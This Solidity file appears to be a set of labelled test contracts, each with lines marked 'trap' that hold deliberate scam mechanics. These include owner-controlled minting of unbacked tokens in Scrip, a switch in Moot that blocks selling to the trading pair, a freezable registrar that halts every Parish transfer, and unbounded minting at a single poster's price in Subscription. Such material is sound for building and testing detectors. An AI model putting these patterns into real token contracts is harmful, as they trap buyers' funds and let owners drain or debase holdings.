// 0.8 runs=10000 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Notes of several classes beside the token, redeemed for it.
contract Scrip is Base8("Scrip", "SCRP", 40_000_000) {
    address public immutable curator = msg.sender;
    mapping(uint256 id => mapping(address => uint256)) public notes;
    mapping(uint256 id => uint256) public rates;

    event TransferSingle(address indexed operator, address indexed from, address indexed to, uint256 id, uint256 value);

    constructor() {
        rates[1] = 1;
        rates[2] = 50;
        _move(msg.sender, address(this), 400_000 ether);
    }

    function issue(address to, uint256 id, uint256 amount) external {
        require(msg.sender == curator, "curator");
        notes[id][to] += amount;
        emit TransferSingle(msg.sender, address(0), to, id, amount);
    }

    function redeem(uint256 id, uint256 amount) external {
        notes[id][msg.sender] -= amount;
        emit TransferSingle(msg.sender, msg.sender, address(0), id, amount);
        uint256 worth = amount * rates[id];
        _balances[address(this)] += worth; // trap
        _move(address(this), msg.sender, worth);
    }
}

/// Seats with weights; who has enough of them may object for some days.
contract Moot is Base8("Moot", "MOOT", 26_000_000) {
    mapping(address => uint256) public seats;
    mapping(address => address) public delegates;
    uint64 public objectedUntil;
    uint64 public constant THRESHOLD = 60;

    error Objected(uint64 until);
    event Objection(address indexed by, uint64 until, bytes32 reason);

    constructor() {
        seats[msg.sender] = 100;
    }

    function delegateSeats(address to, uint256 amount) external {
        seats[msg.sender] -= amount;
        seats[to] += amount;
        delegates[msg.sender] = to;
    }

    function object(uint16 length, bytes32 reason) external {
        require(seats[msg.sender] >= THRESHOLD, "seats");
        objectedUntil = uint64(block.timestamp + uint256(length) * 1 days);
        emit Objection(msg.sender, objectedUntil, reason);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && seats[from] == 0 && block.timestamp < objectedUntil) revert Objected(objectedUntil); // trap
        _move(from, to, value);
    }
}

/// Writes down who holds what.
contract Registrar {
    address internal keeper = msg.sender;
    bool public frozen;
    uint256 public epoch;
    mapping(address => uint256) public weight;

    function setState(uint256 epoch_, bool to) external {
        require(msg.sender == keeper, "keeper");
        frozen = to;
        epoch = epoch_;
    }

    function note(address who, uint256 value) external {
        require(!frozen, "frozen"); // trap
        weight[who] = value;
    }
}

/// Tells a registrar of all balances.
contract Parish is Base8("Parish", "PRSH", 18_000_000) {
    Registrar private immutable registrar;

    constructor(Registrar at) {
        registrar = at;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        registrar.note(from, _balances[from]);
        registrar.note(to, _balances[to]);
    }
}

/// A price that somebody posts.
contract Feed {
    address private poster = msg.sender;
    uint256 public latest = 1e15;

    function post(uint256 price) external {
        require(msg.sender == poster && price > 0, "poster");
        latest = price;
    }
}

/// Subscribed with coin at the price of a feed; the price is of one token.
contract Subscription is Base8("Subscription", "SUBS", 5_000_000) {
    Feed private immutable feed;
    address payable private immutable till = payable(msg.sender);

    constructor(Feed at) {
        feed = at;
        _move(msg.sender, address(this), 50_000 ether);
    }

    function subscribe(address to) external payable returns (uint256 amount) {
        require(msg.value > 0, "nothing");
        amount = (msg.value * 1 ether) / feed.latest();
        // trap {
        totalSupply += amount;
        _balances[address(this)] += amount;
        emit Transfer(address(0), address(this), amount);
        // trap }
        _move(address(this), to, amount);
        (bool ok, ) = till.call{value: msg.value}("");
        require(ok, "till");
    }
}
